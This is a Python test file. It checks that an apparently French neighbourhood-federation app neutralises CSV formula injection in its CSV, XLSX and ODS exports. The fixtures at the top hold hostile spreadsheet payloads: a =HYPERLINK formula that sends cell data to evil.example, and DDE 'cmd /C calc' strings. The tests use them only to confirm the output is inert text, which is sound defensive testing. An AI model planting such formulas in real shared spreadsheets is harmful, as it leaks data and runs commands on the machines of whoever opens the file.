"""CSV formula injection: text another régie wrote reaches a coordinator's spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from odf.namespaces import OFFICENS
from odf.opendocument import load as load_ods
from odf.table import Table, TableCell, TableRow
from odf.teletype import extractText

from federation.csv_safety import FORMULA_STARTS, neutralise, restore
from federation.protocol import persistence
from federation.protocol.puller import pull_peer
from tests.plugins.test_hub import _join_network, fingerprints_of
from tests.protocol.conftest import Node, NodeFactory, activity
from tests.web.conftest import add_account, csrf_of, log_in
from tests.web.test_import import _upload

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE = {
    "title": HYPERLINK,
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "place": {"commune": "93066", "address": "-2+3"},
    "partners": [{"name": "Ville;=2+5"}],
}


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def runnable(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: those starting with a formula character that are not plain numbers."""
    found = []
    for row in rows:
        for cell in row:
            try:
                float(cell)
            except ValueError:
                if cell.startswith(FORMULA_STARTS):
                    found.append(cell)
    return found


def test_neutralise_and_restore_are_inverse_and_stable() -> None:
    for text in (HYPERLINK, DDE, "-2+3", "@x", "\t=1", "\r=1", "a;=1+1", "a;b", "Espaces verts", "'déjà cité'"):
        once = neutralise(text)
        assert not once.startswith(FORMULA_STARTS) and ";=" not in once
        assert restore(once) == text or text.startswith("'")
        assert neutralise(restore(once)) == once  # exporting what was imported gives the same file, no quote piles up
    assert neutralise("Espaces verts") == "Espaces verts"
    assert neutralise("=1+1") == "'=1+1"


async def test_the_activity_export_neutralises_local_and_replicated_text(make_node: NodeFactory) -> None:
    attacker, victim = await make_node("rq-malveillante"), await make_node("rq-victime")
    await attacker.create("activities", activity(1, **HOSTILE))
    await victim.create("activities", activity(2, title=DDE, inhabitants_involved=12))
    await victim.add_peer(attacker)
    await attacker.add_peer(victim)
    peer = await persistence.get_peer(victim.context.engine, "rq-malveillante")
    assert peer is not None
    await pull_peer(victim.context, peer)

    async with victim.session.get(f"{victim.url}/api/v1/export/activities?format=csv") as response:
        assert response.status == 200
        text = await response.text()
    rows = {row["origin"]: row for row in csv.DictReader(io.StringIO(text))}
    replica, local = rows["rq-malveillante"], rows["rq-victime"]
    assert replica["title"] == "'" + HYPERLINK
    assert replica["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert replica["place.address"] == "'-2+3"
    assert replica["partners"].startswith("""[{"name":"Ville;'=2+5",""")
    assert local["title"] == "'" + DDE
    # Numbers stay numbers (bare, not quoted text); text is quoted, so a ";" inside it cannot split the cell.
    assert local["inhabitants_involved"] == "12"
    assert ",12," in text and '\r\n"rq-victime",' in text
    assert runnable(cells(text)) == []
    assert runnable(cells(text, delimiter=";")) == []  # how French Excel splits a .csv it opens


async def test_exported_activities_import_back_as_they_were(
    aiohttp_client: Any, regies_app_factory: Any, regies_web_password_hash: str
) -> None:
    """Export → import → export: the imported title is the original text, and the second export is the first."""
    app, token = await regies_app_factory(entry_points=True)
    client = await aiohttp_client(app)
    auth = {"Authorization": f"Bearer {token}"}
    await add_account(app, regies_web_password_hash, "marie", "staff")
    created = await client.post("/api/v1/activities", json=activity(1, title=HYPERLINK), headers=auth)
    assert created.status == 201
    first = await (await client.get("/api/v1/export/activities?format=csv")).text()
    assert "'" + HYPERLINK.replace('"', '""') in first

    await log_in(client)
    status, preview, documents = await _upload(client, "export.csv", first.encode())
    assert status == 200, preview
    assert HYPERLINK in preview and "'" + HYPERLINK not in preview  # the preview shows the original title
    page = await (await client.get("/admin/import")).text()
    answer = await client.post("/admin/import/confirm", data={"_csrf": csrf_of(page), "documents": documents})
    assert answer.status == 200, await answer.text()

    listing = await (await client.get("/api/v1/activities?limit=10", headers=auth)).json()
    assert [item["title"] for item in listing["items"]] == [HYPERLINK, HYPERLINK]
    second = await (await client.get("/api/v1/export/activities?format=csv")).text()
    rows = list(csv.DictReader(io.StringIO(second)))
    assert [row["title"] for row in rows] == ["'" + HYPERLINK, "'" + HYPERLINK]  # one quote each, every round trip
    assert [row["deleted"] for row in rows] == ["false", "false"]  # a boolean reads as a word, not as 0 or 1


@pytest.fixture
async def hub_with_hostile_member(make_node: NodeFactory) -> tuple[Node, dict[str, str]]:
    """A hub whose one approved member called itself with a formula, and a national coordinator's token."""
    from federation.storage.tokens import create_token

    hub = await make_node("hub-national", plugin_settings={"hub": {"enabled": True}})
    member = await make_node("rq-formule", plugin_settings={"hubclient": {"url": "http://placeholder"}})
    profile = {"name": HYPERLINK, "kind": "quartier", "commune": "93066", "label_status": "labellisee"}
    async with member.session.put(f"{member.url}/api/v1/node", json=profile, headers=member.auth) as response:
        assert response.status == 200, await response.text()
    await _join_network(member, hub)
    auth = {"Authorization": f"Bearer {await create_token(hub.context.engine, 'national', 'national')}"}
    async with hub.session.get(f"{hub.url}/plugins/hub/enrolments?state=pending", headers=auth) as response:
        (pending,) = (await response.json())["items"]
    approval = fingerprints_of(member)  # the coordinator confirms the keys read out by the régie
    approve = f"{hub.url}/plugins/hub/enrolments/{pending['id']}/approve"
    async with hub.session.post(approve, json=approval, headers=auth) as answer:
        assert answer.status == 200
    return hub, auth


@pytest.mark.parametrize(
    "path", ["/plugins/hub/directory/export?format={fmt}", "/plugins/hub/tables/missing?period=2026&format={fmt}"]
)
async def test_hub_tables_keep_a_members_formula_as_text(
    hub_with_hostile_member: tuple[Node, dict[str, str]], path: str
) -> None:
    hub, auth = hub_with_hostile_member
    downloads = {}
    for fmt in ("csv", "xlsx", "ods"):
        async with hub.session.get(hub.url + path.format(fmt=fmt), headers=auth) as response:
            assert response.status == 200, await response.text()
            downloads[fmt] = await response.read()

    rows = cells(downloads["csv"].decode("utf-8"))  # French labels, then the keys, then the data (docs/hub.md)
    assert [cell for cell in rows[2] if HYPERLINK in cell] == ["'" + HYPERLINK]
    assert runnable(rows) == [] and runnable(cells(downloads["csv"].decode("utf-8"), ";")) == []

    sheet = openpyxl.load_workbook(io.BytesIO(downloads["xlsx"])).active
    (name_cell,) = [cell for cell in next(sheet.iter_rows(min_row=3, max_row=3)) if cell.value == HYPERLINK]
    assert name_cell.data_type == "s"  # a string cell: Excel shows the text and runs nothing

    document = load_ods(io.BytesIO(downloads["ods"]))
    (table,) = document.spreadsheet.getElementsByType(Table)
    data_row = table.getElementsByType(TableRow)[2]
    (ods_cell,) = [cell for cell in data_row.getElementsByType(TableCell) if extractText(cell) == HYPERLINK]
    assert ods_cell.getAttrNS(OFFICENS, "value-type") == "string"
    assert not ods_cell.getAttribute("formula")
